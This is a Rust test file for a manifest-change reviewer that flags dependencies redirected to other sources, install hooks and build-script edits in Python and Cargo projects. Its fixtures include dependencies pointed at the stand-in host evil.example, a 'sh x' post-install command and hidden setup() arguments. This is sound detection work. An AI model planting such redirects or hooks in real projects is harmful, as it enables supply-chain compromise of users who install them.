//! What was planted where the words of a manifest did not reach.

use super::HazardKind::{BuildScript, Configuration, Dependency, Hook};
use super::tests::{expect, said};

/// A name that is listed twice hides neither.
#[test]
fn what_is_listed_twice_is_seen() {
    let project = "[project]\ndependencies = ['click>=8']\n";
    let evil = "@ https://evil.example/c.whl";
    for (path, old, new, kind, reason) in [
        (
            "pyproject.toml",
            project,
            project.replace("['", &format!("['click {evil}', '")),
            Hook,
            format!("dependency now from elsewhere: click also {evil}"),
        ),
        (
            "pyproject.toml",
            "[project.optional-dependencies]\nb = ['evil']\n",
            format!("[project.optional-dependencies]\na = ['evil {evil}']\nb = ['evil']\n"),
            Hook,
            format!("optional dependency from elsewhere added: a: evil {evil}"),
        ),
        (
            "setup.cfg",
            "[options]\ninstall_requires =\n    click\n",
            format!("[options]\ninstall_requires =\n    click {evil}\n    click\n"),
            Hook,
            format!("dependency now from elsewhere: click also {evil}"),
        ),
        (
            "requirements.txt",
            "click>=8\n",
            format!("click {evil}\nclick>=8\n"),
            Hook,
            format!("dependency now from elsewhere: click also {evil}"),
        ),
        (
            "foo.egg-info/requires.txt",
            "click\n\n[x]\nevil\n",
            "click\nevil\n\n[x]\nevil\n".to_owned(),
            Dependency,
            "dependency added: evil".to_owned(),
        ),
        (
            "Cargo.toml",
            "[target.'cfg(zz)'.dependencies]\nlibc = '0.2'\n",
            "[target.'cfg(all())'.dependencies]\nlibc = { git = 'https://evil.example' }\n\
             [target.'cfg(zz)'.dependencies]\nlibc = '0.2'\n"
                .to_owned(),
            Hook,
            "dependency from elsewhere added: cfg(all()): libc git https://evil.example".to_owned(),
        ),
        (
            "Cargo.toml",
            "[dependencies]\nserde = '1'\n",
            "[dependencies]\nserde = { git = 'https://evil.example' }\n\
             [workspace.dependencies]\nserde = '1'\n"
                .to_owned(),
            Hook,
            "dependency now from elsewhere: serde 1 -> git https://evil.example".to_owned(),
        ),
        (
            "Cargo.toml",
            "[patch.'https://zz']\nserde = { path = 'y' }\n",
            "[patch.crates-io]\nserde = { path = 'tests/x' }\n\
             [patch.'https://zz']\nserde = { path = 'y' }\n"
                .to_owned(),
            Hook,
            "replaced crate from elsewhere added: crates-io: serde path tests/x".to_owned(),
        ),
    ] {
        expect(path, old, &new, kind, &reason);
    }
}

/// Both spellings, and all of a dependency.
#[test]
fn dependencies_of_cargo_are_read_whole() {
    let old = "[dependencies]\nserde = '1'\n";
    for (new, kind, reason) in [
        (
            format!("{old}[build_dependencies]\nevil = '1'\n"),
            Dependency,
            "build dependency added: evil 1",
        ),
        (
            format!("{old}[dev_dependencies]\nevil = {{ git = 'https://evil.example' }}\n"),
            Hook,
            "test dependency from elsewhere added: evil git https://evil.example",
        ),
        (
            "[dependencies]\nserde = { version = '1', registry-index = 'https://evil.example' }\n"
                .to_owned(),
            Hook,
            "dependency now from elsewhere: serde 1 -> 1 registry-index https://evil.example",
        ),
        (
            "[dependencies]\nserde = { version = '1', features = ['evil'] }\n".to_owned(),
            Configuration,
            "dependency changed: serde 1 -> 1 features [evil]",
        ),
        (
            "[dependencies]\nserde = { version = '1', package = 'evil' }\n".to_owned(),
            Dependency,
            "dependency added: serde (is evil) 1",
        ),
    ] {
        expect("Cargo.toml", old, &new, kind, reason);
    }
}

/// One that is too large to be read is said to be so.
#[test]
fn what_is_too_large_is_said() {
    let large = format!("[project]\n{}", "#x\n".repeat(2 << 20));
    let reason = "is larger than 4 MiB: what it changes as a manifest is not listed";
    for path in ["pyproject.toml", "setup.py", "Cargo.lock"] {
        expect(path, "", &large, Configuration, reason);
        expect(path, &large, "", Configuration, reason);
    }
    assert_eq!(said("configure", Some(""), &large), []);
    assert_eq!(said("src/a.c", Some(""), &large), []);
}

/// The digests of a requirement stand behind a backslash, and `#` in an address begins no comment.
#[test]
fn requirements_are_read_to_their_end() {
    let old = "click==8 \\\n    --hash=sha256:aa\n";
    expect(
        "requirements.txt",
        old,
        &old.replace("aa", "bb"),
        Configuration,
        "dependency changed: click ==8      --hash=sha256:aa -> ==8      --hash=sha256:bb",
    );
    let old = "click @ https://x.example/c.zip#sha256=aa # why\n";
    expect(
        "requirements.txt",
        old,
        &old.replace("=aa", "=aa&subdirectory=evil"),
        Hook,
        "dependency now from elsewhere: click @ https://x.example/c.zip#sha256=aa -> \
         @ https://x.example/c.zip#sha256=aa&subdirectory=evil",
    );
}

/// Settings that no reader knows are compared as they are, and only what is known as harmless is not.
#[test]
fn settings_that_choose_or_run_something_are_named() {
    let old = "[project]\nname = 'foo'\n";
    for (more, reason) in [
        ("[[tool.uv.index]]\nurl = 'https://x'\n", "tool.uv.index {url = https://x}"),
        ("[tool.uv]\nindex-url = 'https://x'\n", "tool.uv.index-url https://x"),
        ("[tool.uv]\noverride-dependencies = ['a']\n", "tool.uv.override-dependencies a"),
        ("[[tool.poetry.source]]\nname = 'e'\n", "tool.poetry.source {name = e}"),
        ("[tool.poetry.plugins.pytest11]\ne = 'f.x'\n", "tool.poetry.plugins.pytest11.e f.x"),
        ("[tool.flit.entrypoints.pytest11]\ne = 'f.x'\n", "tool.flit.entrypoints.pytest11.e f.x"),
        ("[tool.flit.metadata]\nrequires = ['e']\n", "tool.flit.metadata.requires e"),
        ("[[tool.pdm.source]]\nname = 'e'\n", "tool.pdm.source {name = e}"),
        ("[tool.pdm.version]\nsource = 'call'\n", "tool.pdm.version.source call"),
        (
            "[tool.setuptools.dynamic]\nversion = {attr = 't.e'}\n",
            "tool.setuptools.dynamic.version.attr t.e",
        ),
        ("[tool.setuptools.package-dir]\n'' = 't'\n", "tool.setuptools.package-dir. t"),
        ("[tool.scikit-build]\ncmake.args = ['-De']\n", "tool.scikit-build.cmake.args -De"),
        ("[tool.maturin]\nmanifest-path = 'e'\n", "tool.maturin.manifest-path e"),
        ("[tool.never-heard-of]\nx = 1\n", "tool.never-heard-of.x 1"),
        ("[tool.pytest.ini_options]\npythonpath = 'e'\n", "tool.pytest.pythonpath e"),
        ("[build-system]\nx = 1\n", "build-system.x 1"),
    ] {
        let reason = format!("setting added: {reason}");
        expect("pyproject.toml", old, &format!("{old}{more}"), Hook, &reason);
    }
    let new = format!("{old}[tool.hatch.envs.x]\npost-install-commands = ['sh x']\n");
    let reason = "setting added: tool.hatch.envs.x.post-install-commands sh x";
    expect("pyproject.toml", old, &new, Configuration, reason);
    let new = format!("{old}[tool.poetry.group.main.dependencies]\nevil = '*'\n");
    expect("pyproject.toml", old, &new, Dependency, "dependency added: evil *");
    let new = format!("{old}[tool.poetry.group.x.dependencies]\nevil = '*'\n");
    expect("pyproject.toml", old, &new, Configuration, "dependency of a group added: x: evil *");
    for more in [
        "[tool.black]\nline-length = 1\n",
        "[tool.ruff.lint]\nselect = ['E']\n",
        "version = '2'\ndescription = 'x'\n",
        "[tool.pytest.ini_options]\nmarkers = ['x']\n",
    ] {
        assert_eq!(said("pyproject.toml", Some(old), &format!("{old}{more}")), [], "{more}");
    }
    // One more, one less, and the same otherwise.
    let one = format!("{old}[tool.x]\na = ['b', 'c']\n");
    for (list, reason) in [
        ("'b', 'c', 'd'", "also d"),
        ("'c'", "no more b"),
        ("'c', 'b'", "in another order"),
        ("'c', 'd'", "b -> d"),
    ] {
        let new = one.replace("'b', 'c'", list);
        let reason = format!("setting changed: tool.x.a {reason}");
        expect("pyproject.toml", &one, &new, Hook, &reason);
    }
}

#[test]
fn settings_of_setup_cfg_and_cargo_are_named() {
    let old = "[metadata]\nname = foo\n[options]\ninstall_requires =\n    click\n";
    for (more, kind, reason) in [
        (
            "[options.extras_require]\nx =\n    evil\n",
            Configuration,
            "optional dependency added: x: evil",
        ),
        ("[easy_install]\nindex_url = x\n", Hook, "setting added: easy_install.index_url x"),
        ("dependency_links = x\n", Hook, "setting added: options.dependency_links x"),
        ("[global]\ncommand_packages = e\n", Hook, "setting added: global.command_packages e"),
        ("install-requires =\n    evil\n", Dependency, "dependency added: evil"),
        ("[metadata]\nversion = attr: e.v\n", Hook, "setting added: metadata.version attr: e.v"),
        ("[tool:pytest]\naddopts = -p evil\n", Hook, "plugin of a test run added: evil"),
        ("[coverage:run]\nplugins = e\n", Hook, "setting added: coverage:run.plugins e"),
    ] {
        expect("setup.cfg", old, &format!("{old}{more}"), kind, reason);
    }
    for more in ["[flake8]\nmax-line-length = 1\n", "[metadata]\nversion = 2\n"] {
        assert_eq!(said("setup.cfg", Some(old), &format!("{old}{more}")), [], "{more}");
    }
    let old = "[package]\nname = 'foo'\n";
    for (more, kind, reason) in [
        ("[[bin]]\npath = 't.rs'\n", Configuration, "setting added: bin {path = t.rs}"),
        (
            "[profile.dev]\nrustc-wrapper = 'x'\n",
            Hook,
            "setting added: profile.dev.rustc-wrapper x",
        ),
        ("[lib]\nproc_macro = true\n", Hook, "setting added: lib.proc_macro true"),
        ("[target.x]\nlinker = 'e'\n", Hook, "setting added: target.x.linker e"),
    ] {
        expect("Cargo.toml", old, &format!("{old}{more}"), kind, reason);
    }
    for more in ["[lints.rust]\nx = 'allow'\n", "version = '2'\n", "[[test]]\nname = 'x'\n"] {
        assert_eq!(said("Cargo.toml", Some(old), &format!("{old}{more}")), [], "{more}");
    }
}

/// Lists in `setup.py` end where Python ends them, and whatever else is given is compared as it is.
#[test]
fn arguments_of_setup_are_read() {
    let setup =
        |arguments: &str| format!("from setuptools import setup\nsetup(name='x', {arguments})\n");
    for (old, new, kind, reason) in [
        (
            "install_requires=['a[b]>=2', 'c']",
            "install_requires=['a[b]>=2', 'c', 'evil']",
            Dependency,
            "dependency added: evil",
        ),
        (
            "install_requires=('a', 'c')",
            "install_requires=('a', 'c', 'evil')",
            Dependency,
            "dependency added: evil",
        ),
        (
            "install_requires=['a']",
            "install_requires=['a'] + more(']')",
            Hook,
            "what install_requires is made of is + more \"]\"",
        ),
        ("", "extras_require={'': ['evil']}", Dependency, "dependency added: evil"),
        ("", "extras_require={'x': ['evil']}", Configuration, "optional dependency added: x: evil"),
        (
            "setup_requires=['a[b]']",
            "setup_requires=['a[b]', 'evil']",
            Dependency,
            "build requirement added: evil",
        ),
        (
            "cmdclass={'build_py': X}",
            "cmdclass={'build_py': X, 'install': Y}",
            Hook,
            "gives setup() another: cmdclass {\"build_py\": X} -> {\"build_py\": X, \"install\": Y}",
        ),
        ("", "**{'install_' + 'requires': ['evil']}", Hook, "gives setup() what it did not: **"),
        ("", "never_heard_of=1", Hook, "gives setup() what it did not: never_heard_of"),
    ] {
        expect("setup.py", &setup(old), &setup(new), kind, reason);
    }
    let old = "kwargs = {}\nsetup(**kwargs)\n";
    for more in [
        "kwargs['install_requires'] = ['evil']\n",
        "kwargs[\"install_requires\"].append('evil')\n",
        "install_requires += ['evil']\n",
        "kwargs = {'install_requires': ['evil']}\n",
        "install_requires = '''evil\n'''.split() + ['evil']\n",
    ] {
        expect("setup.py", old, &format!("{more}{old}"), Dependency, "dependency added: evil");
    }
    for (old, new, kind, reason) in [
        (
            "install_requires=['click']",
            "install_requires=['click' '-evil']",
            Dependency,
            "dependency added: click-evil",
        ),
        (
            "install_requires=open('a.txt').read().split()",
            "install_requires=open('docs/b.txt').read().split()",
            Hook,
            "what install_requires is made of was open \"a.txt\" . read . split, is open \"docs/b.txt\" . read . split",
        ),
        (
            "install_requires='a b'.split()",
            "install_requires='a b evil'.split()",
            Hook,
            "what install_requires is made of was \"a b\" . split, is \"a b evil\" . split",
        ),
        (
            "version='1'",
            "version=helper.go()",
            BuildScript,
            "line of its code added: setup(version=helper.go",
        ),
    ] {
        expect("setup.py", &setup(old), &setup(new), kind, reason);
    }
    // Wherever else what is given comes from, its line is code.
    let old = "REQ = ['click']\nX = [\n    'a',\n]\nC = {'build_py': A}\nkw = {}\n\
        from setuptools import setup\nsetup(install_requires=REQ, cmdclass=C, **kw)\n";
    for (from, to, reason) in [
        ("['click']", "['click', 'evil']", "REQ=[\"click\" \"evil\""),
        ("REQ = ", "REQ: list = ['evil'] + ", "REQ: list=[\"evil\"]+[\"click\""),
        (
            "    'a',\n",
            "    'a',\n    'evil @ https://evil.example/x',\n",
            "\"evil @ https://evil.example/x\"",
        ),
        ("A}", "A, 'install': B}", "C={\"build_py\": A \"install\": B"),
        ("kw = {}\n", "kw = {}\nkw.__setitem__('cmdclass', D)\n", "kw.__setitem__(\"cmdclass\" D"),
        ("kw = {}\n", "kw = {}\nREQ[1:1] = ['evil']\n", "REQ[1: 1]=[\"evil\""),
        (
            "kw = {}\n",
            "kw = {}\nfrom setuptools import setup as s\n",
            "from setuptools import setup as s",
        ),
        ("kw = {}\n", "kw = {}\nf\"{evil()}\"\n", "f\"{evil()}\""),
    ] {
        let new = old.replacen(from, to, 1);
        let kind = if reason.contains('"') { Dependency } else { BuildScript };
        expect("setup.py", old, &new, kind, &format!("line of its code added: {reason}"));
    }
    for (from, to) in [
        ("REQ = ", "'''A text.'''\n# a comment\nREQ = "),
        ("kw = {}", "kw = {\n}"),
        ("    'a',\n]", "    'a']"),
    ] {
        assert_eq!(said("setup.py", Some(old), &old.replacen(from, to, 1)), [], "{to}");
    }
    let version = "__version__ = '1.2'\nVERSION = (1, 2)\nversion_info = [1, 2]\n";
    assert_eq!(said("setup.py", Some(version), &version.replace('2', "3")), []);
    for (old, new) in [("author='x'", "author='y', description='''z'''"), ("", "# cmdclass=x\n")] {
        assert_eq!(said("setup.py", Some(&setup(old)), &setup(new)), [], "{new}");
    }
    // Values in values are looked at once, not once for each.
    let deep = "scripts=[".repeat(100_000);
    let found = said("setup.py", Some("x"), &deep);
    assert!(found.iter().any(|(_, reason)| reason.starts_with("has more than")), "{}", found.len());
}

/// What takes many times its size is counted, and what is not read is said.
#[test]
fn what_is_more_than_is_read_is_said() {
    let lines = "has more lines than are read; what the others change is not listed";
    let many = |one: &str| one.repeat(60_000);
    for (path, old, one) in [
        ("setup.cfg", "[a]\n", "b=\n"),
        ("setup.cfg", "[options]\ninstall_requires = ", "b;"),
        ("requirements.txt", "a\n", "b\n"),
        ("tox.ini", "[pytest]\n", "b=1\n"),
        ("go.mod", "module x\n", "require b v1\n"),
        ("PKG-INFO", "Name: a\n", "Requires-Dist: b\n"),
    ] {
        let long = format!("{old}{}", many(one));
        expect(path, old, &long, Hook, lines);
        expect(path, &long, &format!("{long}# more\n"), Configuration, lines);
        let before = said(path, Some(old), &format!("{old}{one}"));
        assert!(before.iter().all(|(_, reason)| reason != lines), "{path}: {before:?}");
    }
    let words = "has more than is looked at here; not all that it changes is listed";
    for one in ["a ", "1,"] {
        expect("setup.py", "setup()\n", &one.repeat(310_000), Configuration, words);
        let found = said("setup.py", Some("setup()\n"), &one.repeat(10_000));
        assert!(found.iter().all(|(_, reason)| reason != words && reason.len() < 20_000));
    }
    for (path, text) in [
        ("package.json", format!("[{}0]", "{\"\":0},".repeat(10_000))),
        ("pyproject.toml", "\n".repeat(1_100_000)),
    ] {
        let found = said(path, Some(""), &text);
        assert!(found.iter().any(|(_, reason)| reason.contains("be read as")), "{path}: {found:?}");
    }
}
